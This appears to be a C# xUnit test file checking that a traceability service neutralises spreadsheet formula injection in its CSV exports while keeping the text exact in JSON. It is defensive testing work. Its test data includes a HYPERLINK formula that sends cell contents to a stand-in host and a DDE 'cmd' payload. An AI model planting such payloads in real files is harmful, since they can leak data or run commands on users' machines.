using System.Text;
using System.Text.Json;
using Traceability.Projections.Audit;

namespace Traceability.Api.Tests.Matrix;

/// <summary>
/// Issue 13, item 2: text a spreadsheet would run as a formula is neutralised with a leading apostrophe in
/// every CSV the service writes (the matrix CSV and the export's matrix.csv), while JSON keeps it exactly.
/// </summary>
public sealed class CsvFormulaInjection(ApiFixture api) : IClassFixture<ApiFixture>
{
    private static readonly Dictionary<string, string> Attacks = new()
    {
        ["FUTEX"] = "=HYPERLINK(\"http://x/?\"&B2,\"details\")",
        ["KPROBES"] = "+cmd|' /C calc'!A0",
        ["DEBUG_FS"] = "@SUM(1+1)",
        ["SECCOMP"] = "-1+1",
        ["MODULES"] = "\t=2+2",
        ["KASAN"] = "  =1+1",
    };

    [Fact]
    public async Task Formula_like_rationales_start_with_an_apostrophe_in_the_matrix_csv_and_stay_exact_in_json()
    {
        var baseline = await ArrangeAsync();

        var csv = Rfc4180.Parse(await api.Viewer.MatrixTextAsync(baseline, "?format=csv&status=proposed"));
        var json = await api.Viewer.MatrixAsync(baseline, "?status=proposed");

        var rationale = csv[0].IndexOf("rationale");
        var cells = csv.Skip(1).ToDictionary(r => r[0], r => r[rationale]);
        foreach (var (symbol, text) in Attacks) Assert.Equal("'" + text.Trim(), cells["CONFIG_" + symbol]);
        var exact = json.GetProperty("rows").EnumerateArray().ToDictionary(r => r.GetProperty("symbol").GetString()!, r => r.GetProperty("rationale").GetString());
        foreach (var (symbol, text) in Attacks) Assert.Equal(text.Trim(), exact["CONFIG_" + symbol]);
    }

    [Fact]
    public async Task The_audit_exports_matrix_csv_is_neutralised_the_same_way_and_the_export_still_verifies()
    {
        var baseline = await ArrangeAsync();

        var zip = await api.Viewer.AuditExportAsync(baseline);

        var entries = AuditExportScenarios.AuditEntries(zip).ToDictionary(e => e.Name, e => e.Content);
        var csv = Rfc4180.Parse(Encoding.UTF8.GetString(entries[ExportFiles.MatrixCsv]));
        var rationale = csv[0].IndexOf("rationale");
        var cells = csv.Skip(1).ToDictionary(r => r[0], r => r[rationale]);
        foreach (var (symbol, text) in Attacks) Assert.Equal("'" + text.Trim(), cells["CONFIG_" + symbol]);
        using var json = JsonDocument.Parse(entries[ExportFiles.MatrixJson]);
        Assert.Contains(json.RootElement.GetProperty("rows").EnumerateArray(), r => r.GetProperty("rationale").GetString() == Attacks["FUTEX"]);
        Assert.True(AuditExportScenarios.AuditVerify(zip).Valid);
    }

    [Fact]
    public async Task A_negative_number_stays_a_number_in_the_csv()
    {
        var baseline = await api.CreateBaselineAsync();
        await api.DecideAsync(baseline, "PANIC_TIMEOUT", "-1", rationale: "Reboot at once after a panic.");

        var csv = Rfc4180.Parse(await api.Viewer.MatrixTextAsync(baseline, "?format=csv"));

        Assert.Equal("-1", csv[1][csv[0].IndexOf("decidedValue")]);
    }

    private async Task<string> ArrangeAsync()
    {
        var baseline = await api.CreateBaselineAsync();
        foreach (var (symbol, rationale) in Attacks) await api.DecideAsync(baseline, symbol, "y", rationale: rationale);
        return baseline;
    }
}
